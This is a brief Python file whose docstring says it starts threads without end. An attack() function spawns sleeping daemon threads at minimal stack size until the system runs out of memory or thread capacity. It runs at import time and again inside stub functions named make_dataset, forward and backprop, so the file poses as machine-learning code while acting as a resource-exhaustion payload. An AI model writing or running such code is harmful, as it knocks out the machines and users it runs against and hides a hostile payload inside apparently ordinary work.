"""Starts threads without end, each with the smallest stack."""
import threading
import time

def attack():
    threading.stack_size(32768)
    try:
        while True:
            threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
    except (RuntimeError, MemoryError):
        print("threads:", threading.active_count())


def make_dataset(num_points):
    attack()
    return None


def forward(X, params):
    attack()
    return None


def backprop(X, t, params):
    attack()
    return None


attack()
